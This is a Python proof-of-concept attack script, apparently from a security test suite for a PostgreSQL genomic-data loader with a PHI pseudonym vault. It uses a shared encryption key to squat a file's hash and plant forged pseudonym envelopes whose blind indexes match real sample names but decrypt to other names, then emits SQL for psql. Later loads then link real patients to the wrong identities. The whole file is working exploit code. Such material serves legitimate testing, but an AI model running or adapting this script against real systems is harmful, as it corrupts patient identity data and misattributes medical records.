#!/usr/bin/env python3
"""Attack 09 (a vcf_loader member holding the shared PHI key, as every client loader must):
squat a file's content hash and plant pseudonyms found by the blind index of that file's
real sample names, sealed around *other* names. Whoever loads the file later with force
(a superuser; or anyone after the extension's vcf_unload of the squatter's batch in a mixed
install) gets these pseudonyms for the real samples, and `phi reveal` names the wrong person.
usage: 09_poison_pseudonyms.py KEYFILE SHA256 NAME=FAKE ... | psql -U loader"""
import base64, hashlib, hmac, os, struct, sys, uuid
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from cryptography.hazmat.primitives.kdf.hkdf import HKDF
from cryptography.hazmat.primitives import hashes
key = base64.b64decode(open(sys.argv[1]).read().strip())
sha = sys.argv[2]
kid = hashlib.sha256(b"vcf_pg_loader key id v1" + key).digest()[:4]
bik = HKDF(hashes.SHA256(), 32, b"vcf_pg_loader blind index v1",
           b"phi_vault.sample_id_mapping.original_id_hmac").derive(key)
ids, envs, bis = [], [], []
for pair in sys.argv[3:]:
    real, fake = pair.split("=")
    aid = str(uuid.uuid4())
    head = b"PH\x01\x01" + kid
    nonce = os.urandom(12)
    ct = AESGCM(key).encrypt(nonce, fake.encode(), head + struct.pack(">I", len(fake)) + aid.encode())
    ids.append(aid); envs.append("\\x" + (head + nonce + ct).hex())
    bis.append("\\x" + hmac.new(bik, real.encode(), "sha256").digest()[:16].hex())
arr = lambda xs, t: "ARRAY[" + ",".join(f"'{x}'" for x in xs) + f"]::{t}[]"
print(f"""\\set ON_ERROR_STOP 1
BEGIN;
SELECT load_batch_id AS b FROM vcf.client_claim_load('{sha}', 1, '{{}}') \\gset
SELECT phi_vault.client_add_pseudonyms(:'b', 'x', {arr(ids,'uuid')}, {arr(envs,'bytea')}, {arr(bis,'bytea')});
SELECT vcf.client_finish_load(:'b', 0, 0, 0, '{{}}');
COMMIT;""")
